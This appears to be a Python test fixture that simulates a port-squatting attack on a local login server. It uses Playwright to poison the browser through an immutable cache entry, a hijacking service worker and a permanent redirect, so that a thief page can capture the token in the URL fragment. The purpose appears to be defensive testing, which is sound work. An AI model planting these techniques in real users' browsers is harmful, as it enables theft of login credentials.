"""A program that had a port before the local server has it, and what it leaves in a person's browser for that address."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, ClassVar

from playwright.sync_api import BrowserContext

STOLEN = "STOLEN "
VARIANTS = ("cache", "worker", "redirect")
"""How the squatter's page gets in front of the one that logs in: from the browser's cache, by a service worker, by a remembered redirect."""

FOREVER = "public, max-age=31536000, immutable"
THIEF = f"<!doctype html><title>thief</title><script>if (location.hash) document.title = '{STOLEN}' + location.hash</script>"
WORKER = f"""
self.addEventListener("install", () => self.skipWaiting())
self.addEventListener("activate", event => event.waitUntil(clients.claim()))
self.addEventListener("fetch", event => {{
  const page = new Response({json.dumps(THIEF)}, {{headers: {{"Content-Type": "text/html"}}}})
  if (event.request.mode === "navigate" && new URL(event.request.url).pathname.startsWith("/open")) event.respondWith(page)
}})
"""
REGISTERS = """<!doctype html><script>
navigator.serviceWorker.register("/worker.js").then(() => navigator.serviceWorker.ready).then(() => { document.title = "left" })
</script>"""


class Squatter(BaseHTTPRequestHandler):
    """Answers for the port, and for the thief's own place, to which its redirect leads."""

    variant: ClassVar[str]
    thief: ClassVar[int]

    def do_GET(self) -> None:
        """Answer."""
        if self.path == "/worker.js":
            self._send(WORKER, {"Content-Type": "text/javascript"})
        elif self.path == "/" and self.variant == "worker":
            self._send(REGISTERS, {"Content-Type": "text/html"})
        elif self.path == "/open" and self.variant == "redirect":
            self._send("", {"Location": f"http://127.0.0.1:{self.thief}/", "Cache-Control": FOREVER}, status=301)
        else:
            self._send(THIEF, {"Content-Type": "text/html", "Cache-Control": FOREVER})

    def _send(self, body: str, headers: dict[str, str], *, status: int = 200) -> None:
        self.send_response(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body.encode())

    def log_message(self, *_: object) -> None:
        """Say nothing."""


@contextmanager
def squatting(variant: str, thief: int) -> Iterator[int]:
    """Hold a port, and yield it."""
    handler: Any = type("Variant", (Squatter,), {"variant": variant, "thief": thief})
    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            yield int(server.server_address[1])
        finally:
            server.shutdown()
            thread.join()


def leave(context: BrowserContext, variant: str, port: int) -> None:
    """Have the person's browser come by, as any web page can have it by opening a window."""
    page = context.new_page()
    page.goto(f"http://127.0.0.1:{port}/{'' if variant == 'worker' else 'open'}")
    if variant == "worker":
        page.wait_for_function("document.title === 'left'")
    page.close()
